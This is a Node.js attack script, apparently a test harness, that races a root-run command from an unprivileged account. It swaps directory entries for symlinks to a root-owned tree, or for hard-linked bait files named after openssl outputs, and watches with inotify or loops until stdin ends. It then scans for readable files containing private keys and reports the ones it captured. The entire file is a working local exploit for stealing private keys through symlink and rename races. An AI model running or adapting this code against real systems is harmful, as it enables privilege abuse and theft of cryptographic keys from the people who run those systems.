// Runs as a user without rights and attacks a command that root runs. PLAN, as JSON, says where: `yard` is the directory in
// which this user can rename or create, `steps` lead from there to the command's target, `victim` is a tree of root's, `stock`
// a directory of this user's own. The payload is put where root's own entry was: a symbolic link to the victim, or a directory
// of this user's that holds files by the names that openssl writes.
//
//   once PLAN   strikes once, and exits
//   loop PLAN   swaps and swaps back, in quick succession, until standard input ends
//   watch PLAN  waits for what appears (inotify), and swaps it at once, until standard input ends
//
// The last two print `ready`, and in the end how often they struck and which private keys they could read.
import fs from 'node:fs';
import { randomBytes } from 'node:crypto';
import { dirname, join } from 'node:path';
import { setTimeout as sleep, setImmediate } from 'node:timers/promises';

const [style, plan] = process.argv.slice(2);
const { yard, steps, victim, stock, payload, spare, makes = [] } = JSON.parse(plan);
const target = join(yard, ...steps);
const names = [
  'ca-key.pem',
  'server-key.pem',
  'key.pem',
  'out.pem',
  'new-key.pem',
  'ca.pem',
  'cert.pem',
  ...makes,
];

let strikes = 0;
const read = new Set();
const done = new Set();

function attempt(action, otherwise) {
  try {
    return action();
  } catch {
    return otherwise;
  }
}

const unique = () => randomBytes(5).toString('hex');
const listed = (folder) => attempt(() => fs.readdirSync(folder), []);

/** What a run of the program makes for itself: its workspaces, temporary files and probes, whatever their names. */
const passing = (folder) =>
  listed(folder).filter((name) => name.startsWith('.') && !/\.(away|mine)-/.test(name));

/** A directory of this user's own. What is written into its files stays readable, for each has a second name. */
function bait(path) {
  fs.mkdirSync(path, { mode: 0o777 });
  fs.chmodSync(path, 0o777);
  for (const name of names) {
    const kept = join(stock, `kept-${unique()}`);
    attempt(() => {
      fs.mkdirSync(dirname(join(path, name)), { recursive: true, mode: 0o777 });
      fs.writeFileSync(kept, '', { mode: 0o666 });
      fs.chmodSync(kept, 0o666);
      fs.linkSync(kept, join(path, name));
    });
  }
}

/** The payload, at a free path; `inner` are names in it that root's process is going to use. */
function put(path, inner = []) {
  if (inner.length === 0) {
    if (payload === 'victim') fs.symlinkSync(victim, path);
    else bait(path);
    return;
  }
  fs.mkdirSync(path, { mode: 0o777 });
  fs.chmodSync(path, 0o777);
  for (const name of inner) attempt(() => put(join(path, name)));
}

/** From `yard` down to the target, all of it this user's own. */
function putPath(inner) {
  let folder = yard;
  for (const step of steps.slice(0, -1)) {
    folder = join(folder, step);
    attempt(() => {
      fs.mkdirSync(folder, { mode: 0o777 });
      fs.chmodSync(folder, 0o777);
    });
  }
  put(target, inner);
}

/** Moves what is there aside, and puts the payload in its place. Gives what takes it back. */
function swap(path, inner) {
  const away = join(dirname(path), `.away-${unique()}`);
  const isFile = attempt(() => fs.lstatSync(path).isFile(), false);
  if (!attempt(() => (fs.renameSync(path, away), true), false)) return undefined;
  attempt(() => {
    if (isFile) fs.symlinkSync(join(victim, 'notes'), path);
    else if (path === join(yard, steps[0] ?? '')) putPath(inner);
    else put(path, inner);
  });
  strikes++;
  return () => {
    attempt(() => fs.renameSync(path, join(dirname(path), `.mine-${unique()}`)));
    attempt(() => fs.renameSync(away, path));
  };
}

/** Everything along the path that is this user's to change. */
function* folders() {
  yield yard;
  for (let depth = 1; depth <= steps.length; depth++) yield join(yard, ...steps.slice(0, depth));
}

function swapPassing() {
  let hits = 0;
  for (const folder of folders()) {
    for (const name of passing(folder)) {
      const path = join(folder, name);
      if (done.has(path)) continue;
      if (attempt(() => fs.lstatSync(path).uid, -1) === process.getuid()) continue;
      if (swap(path)) {
        done.add(path);
        hits++;
      }
    }
  }
  return hits;
}

const claimed = join(yard, steps[0] ?? '');
let isClaimed = false;
/** In a sticky directory this user makes what root's process found missing. */
function claim() {
  return attempt(() => {
    if (spare) fs.renameSync(spare, claimed);
    else if (steps.length > 1) {
      fs.mkdirSync(claimed, { mode: 0o777 });
      fs.chmodSync(claimed, 0o777);
    } else if (steps.length > 0) put(claimed);
    else claimFiles();
    strikes++;
    isClaimed = true;
    return true;
  }, false);
}

/** The names of files that a command is told to write. */
const outputs = ['out.pem', 'client.tar.gz', 'server.tar.gz', 'metrics.prom'];
function claimFiles() {
  for (const name of outputs) {
    attempt(() => {
      if (payload === 'victim') return fs.symlinkSync(join(victim, 'notes'), join(yard, name));
      const kept = join(stock, `kept-${unique()}`);
      fs.writeFileSync(kept, '', { mode: 0o666 });
      fs.linkSync(kept, join(yard, name));
    });
  }
}

function unclaim() {
  if (!isClaimed) return;
  isClaimed = false;
  if (spare) attempt(() => fs.renameSync(claimed, spare));
  else if (steps.length === 0) for (const name of outputs) attempt(() => fs.unlinkSync(join(yard, name)));
  else
    attempt(() =>
      fs.lstatSync(claimed).isSymbolicLink()
        ? fs.unlinkSync(claimed)
        : steps.length > 1
          ? fs.rmdirSync(claimed)
          : fs.renameSync(claimed, join(yard, `.mine-${unique()}`)),
    );
}

function swapPath() {
  if (steps.length === 0) return undefined;
  return swap(claimed, passing(target));
}

function strike() {
  if (swapPassing() > 0) return;
  if (!swapPath()) claim();
}

/** Keys of root's that this user can read, wherever along the path. */
function peek(folder, depth = 0) {
  for (const name of listed(folder)) {
    const path = join(folder, name);
    attempt(() => {
      const stats = fs.lstatSync(path);
      if (stats.isDirectory() && depth < 4) peek(path, depth + 1);
      if (!stats.isFile() || stats.uid === process.getuid()) return;
      if (fs.readFileSync(path, 'latin1').includes('PRIVATE KEY')) read.add(path);
    });
  }
}

if (style === 'once') {
  strike();
  process.exit();
}

let ended = false;
process.stdin.on('end', () => (ended = true)).resume();

async function loop() {
  for (let round = 0; !ended; round++) {
    swapPassing();
    const back = swapPath();
    if (!back) claim();
    peek(yard);
    for (let turns = (round * 7) % 5; turns > 0; turns--) {
      await setImmediate();
      swapPassing();
    }
    if (back) back();
    else unclaim();
    if (round % 3 === 0) await sleep(1);
    else await setImmediate();
  }
}

async function watch() {
  const watched = new Map();
  const look = () => {
    for (const folder of folders()) {
      if (watched.has(folder)) continue;
      attempt(() => {
        const watcher = fs.watch(folder, (_, name) => {
          if (name === null || /\.(away|mine)-/.test(name)) return;
          if (name.startsWith('.')) swapPassing();
          else if (folder !== yard) swapPath();
          else if (steps.length > 1) claim();
          look();
          peek(folder);
        });
        watcher.on('error', () => undefined);
        watched.set(folder, watcher);
      });
    }
  };
  look();
  while (!ended) {
    // Nothing tells of a look that finds nothing: what is missing is claimed, and given up, again and again.
    if (claim()) look();
    await sleep(2);
    if (swapPassing() === 0) {
      unclaim();
      for (const [folder, watcher] of watched) {
        if (folder === yard) continue;
        watcher.close();
        watched.delete(folder);
      }
    }
    await sleep(2);
  }
  for (const watcher of watched.values()) watcher.close();
}

process.stdout.write('ready\n');
await (style === 'loop' ? loop() : watch());
process.stdout.write(JSON.stringify({ strikes, read: [...read] }));
